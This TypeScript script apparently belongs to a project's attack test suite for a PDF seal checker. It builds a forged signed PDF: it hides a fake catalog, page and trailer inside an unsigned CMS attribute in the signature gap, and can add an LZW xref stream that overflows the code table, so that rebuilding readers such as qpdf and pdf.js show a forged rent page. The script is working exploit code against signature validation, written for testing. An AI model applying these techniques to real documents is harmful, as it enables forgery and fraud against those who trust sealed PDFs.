// a23: the seal's /Contents gap written as a LITERAL string `( ... )` of the same length: the same CMS, escaped, and
// NULs for the zero padding (the gap is exactly the string; its value is DER + zeros, which sealcheck accepts:
// signatures.ts records contentsHex and nothing reads it). PDFBox (EU DSS) reads the gap as hex (PDSignature
// getConvertedContents) whatever its form.
// blob: an unsigned attribute (OID 1.3.6.1.4.1.99999.1, an OCTET STRING) added to the seal's SignerInfo, whose raw bytes
// appear verbatim in the file: a forged catalog, page tree, page and content stream (new numbers 1001-1004) and a
// `trailer` naming them. A rebuilding reader's line scanner takes them (qpdf's reconstruction takes the FIRST trailer it
// finds; pdf.js's recovery the first with a valid /Root /Pages /Count and an /ID): the sealed revision's bytes, where
// the unlisted scan does not look.
// lzw: plus an update whose xref stream is LZW-coded past a full table (qpdf "table full": reconstructs; a22 H1).
//   npx tsx scripts/attack-s18/gap-literal.ts <hex|literal|blob|blob-lzw>   (the real archive; REAL=0 samples/valid)
import { NumberAllocator, serialize } from "../../src/augment/writer.js";
import { parsePdf } from "../../src/input/pdf/index.js";
import { rawGet } from "../../src/input/pdf/objects.js";
import { decodeFilters } from "../../src/input/pdf/filters.js";
import { wholeSource } from "../../src/input/source.js";
import { resolveLimits } from "../../src/limits.js";
import { save, sealGap, tool, work } from "../attack36/lib.js";
import { Bits } from "../attack-s16/lzw.js";
import { judge, latin, page1 } from "../attack-s16/lib.js";

const mode = process.argv[2] ?? "blob-lzw";
if (!["hex", "literal", "blob", "blob-lzw"].includes(mode)) throw new Error("usage: <hex|literal|blob|blob-lzw>");
const p = page1();
let pdf = Uint8Array.from(p.pdf);
const gap = sealGap(pdf);
const L = gap.end - gap.start;

// --- DER: a TLV reader and writer (definite lengths only)
interface Tlv {
  tag: number[];
  start: number;
  hdr: number;
  len: number;
}
function tlv(b: Uint8Array, at: number): Tlv {
  let i = at;
  const tag = [b[i++]!];
  if ((tag[0]! & 0x1f) === 0x1f) while (b[i - 1]! & 0x80 || tag.length === 1) tag.push(b[i++]!);
  let len = b[i++]!;
  if (len & 0x80) {
    const n = len & 0x7f;
    len = 0;
    for (let k = 0; k < n; k++) len = len * 256 + b[i++]!;
  }
  return { tag, start: at, hdr: i - at, len };
}
function children(b: Uint8Array, t: Tlv): Tlv[] {
  const out: Tlv[] = [];
  let at = t.start + t.hdr;
  const end = at + t.len;
  while (at < end) {
    const c = tlv(b, at);
    out.push(c);
    at = c.start + c.hdr + c.len;
  }
  return out;
}
function enc(tag: number[], content: Uint8Array): Uint8Array {
  const n = content.length;
  const len = n < 0x80 ? [n] : n < 0x100 ? [0x81, n] : n < 0x10000 ? [0x82, n >> 8, n & 0xff] : [0x83, n >> 16, (n >> 8) & 0xff, n & 0xff];
  return Uint8Array.from([...tag, ...len, ...content]);
}
const slice = (b: Uint8Array, t: Tlv) => b.subarray(t.start, t.start + t.hdr + t.len);
/** Rewrites the TLV at `path` (child indices from the top) with `f` applied to its content, re-encoding every parent. */
function rewrite(b: Uint8Array, path: number[], f: (content: Uint8Array, t: Tlv) => Uint8Array): Uint8Array {
  const go = (t: Tlv, depth: number): Uint8Array => {
    if (depth === path.length) return enc(t.tag, f(b.subarray(t.start + t.hdr, t.start + t.hdr + t.len), t));
    const kids = children(b, t);
    const idx = path[depth]! < 0 ? kids.length + path[depth]! : path[depth]!;
    const parts = kids.map((k, i) => (i === idx ? go(k, depth + 1) : slice(b, k)));
    return enc(t.tag, Uint8Array.from(parts.flatMap((x) => [...x])));
  };
  return go(tlv(b, 0), 0);
}
const top = tlv(gap.der, 0);
let der = gap.der.subarray(0, top.hdr + top.len);

const alloc = new NumberAllocator(parsePdf(wholeSource(pdf), resolveLimits()));
const content = "1 g 0 0 2000 2000 re f 0 g BT /F9 28 Tf 60 700 Td (Husleje: 1 kr. pr. maaned) Tj ET";
const view = parsePdf(wholeSource(pdf), resolveLimits()).latest();
const id = rawGet(view.trailer, "ID");
const blob = latin(
  `\n1001 0 obj\n<< /Type /Catalog /Pages 1002 0 R >>\nendobj\n` +
    `1002 0 obj\n<< /Type /Pages /Kids [1003 0 R] /Count 1 >>\nendobj\n` +
    `1003 0 obj\n<< /Type /Page /Parent 1002 0 R /MediaBox [0 0 595.2756 841.8898] /Contents 1004 0 R /Resources << /Font << /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>\nendobj\n` +
    `1004 0 obj\n<< /Length ${content.length} >>\nstream\n${content}\nendstream\nendobj\n` +
    `trailer\n<< /Size 1005 /Root 1001 0 R${id ? ` /ID ${serialize(id)}` : ""} >>\n`,
);
if (mode.startsWith("blob")) {
  // ContentInfo [1] = [0] EXPLICIT; its [0] = SignedData; SignedData's last = signerInfos; [0] = the SignerInfo; last = [1] unsignedAttrs
  const attr = enc(
    [0x30],
    Uint8Array.from([...enc([0x06], Uint8Array.from([0x2b, 6, 1, 4, 1, 0x86, 0x8d, 0x1f, 1])), ...enc([0x31], enc([0x04], Uint8Array.from(blob)))]),
  );
  der = rewrite(der, [1, 0, -1, 0, -1], (c, t) => {
    if (t.tag[0] !== 0xa1) throw new Error(`the SignerInfo's last element is tag ${t.tag[0]}, not unsignedAttrs`);
    return Uint8Array.from([...c, ...attr]);
  });
}

let gapText: number[];
if (mode === "hex")
  gapText = latin(
    `<${Buffer.from(der)
      .toString("hex")
      .padEnd(L - 2, "0")}>`,
  );
else {
  const inBlob = new Set<number>();
  if (mode.startsWith("blob")) {
    const at = Buffer.from(der).indexOf(Buffer.from(blob));
    for (let i = 0; i < blob.length; i++) inBlob.add(at + i);
  }
  const body: number[] = [];
  der.forEach((x, i) => {
    if (!inBlob.has(i) && (x === 0x28 || x === 0x29 || x === 0x5c)) body.push(0x5c, x);
    else if (x === 0x0d) body.push(...latin("\\015"));
    else body.push(x);
  });
  if (body.length + 2 > L) throw new Error(`literal CMS ${body.length} does not fit ${L - 2}`);
  while (body.length < L - 2) body.push(0);
  gapText = [0x28, ...body, 0x29];
}
pdf.set(gapText, gap.start);

const parts: number[][] = [[...pdf]];
if (mode === "blob-lzw") {
  // a22 H1's trigger: an update of one xref stream (itself and 700 free rows), LZW without a clear code past 4096 entries
  const doc = parsePdf(wholeSource(pdf), resolveLimits());
  const C = alloc.take();
  let at = pdf.length;
  if (pdf.at(-1) !== 0x0a) {
    parts.push([0x0a]);
    at++;
  }
  const offC = at;
  const rows = [1, (offC >>> 24) & 0xff, (offC >>> 16) & 0xff, (offC >>> 8) & 0xff, offC & 0xff, 0, 0];
  for (let i = 0; i < 700; i++) rows.push(0, 0, 0, 0, 0, (i * 37) & 0xff, (i * 101 + 7) & 0xff);
  const bits = new Bits();
  let next = 258;
  let width = 9;
  bits.put(256, 9);
  rows.forEach((x, i) => {
    bits.put(x, width);
    if (i > 0 && next < 4096) next++;
    if (next + 1 >= 1 << width && width < 12) width++;
  });
  bits.put(257, width);
  while (bits.n) bits.put(0, 1);
  const data = bits.bytes;
  const back = decodeFilters(Uint8Array.from(data), [{ name: "LZWDecode" }], 1 << 24);
  if (Buffer.compare(Buffer.from(back), Buffer.from(rows)) !== 0) throw new Error("LZW round trip differs");
  const carried = ["Root", "Info", "ID"].flatMap((k) => {
    const v = rawGet(doc.latest().trailer, k);
    return v ? [`/${k} ${serialize(v)}`] : [];
  });
  parts.push([
    ...latin(
      `${C} 0 obj\n<< /Type /XRef /Size ${C + 701} /W [1 4 2] /Index [${C} 701] /Prev ${doc.revisions.at(-1)!.startxref} ${carried.join(" ")} /Filter /LZWDecode /Length ${data.length} >>\nstream\n`,
    ),
    ...data,
    ...latin(`\nendstream\nendobj\nstartxref\n${offC}\n%%EOF\n`),
  ]);
}
const file = save(work(`s18-gap-${mode}`), "archive.pdf", Uint8Array.from(parts.flat()));
judge(`gap-literal ${mode}`, file);
console.log(`== qpdf --show-npages: ${tool("qpdf", ["--show-npages", file]).split("\n").at(-1)}`);
console.log(`== qpdf trailer: ${JSON.stringify(tool("qpdf", ["--show-object=trailer", file]).split("\n").at(-1)!.slice(0, 160))}`);
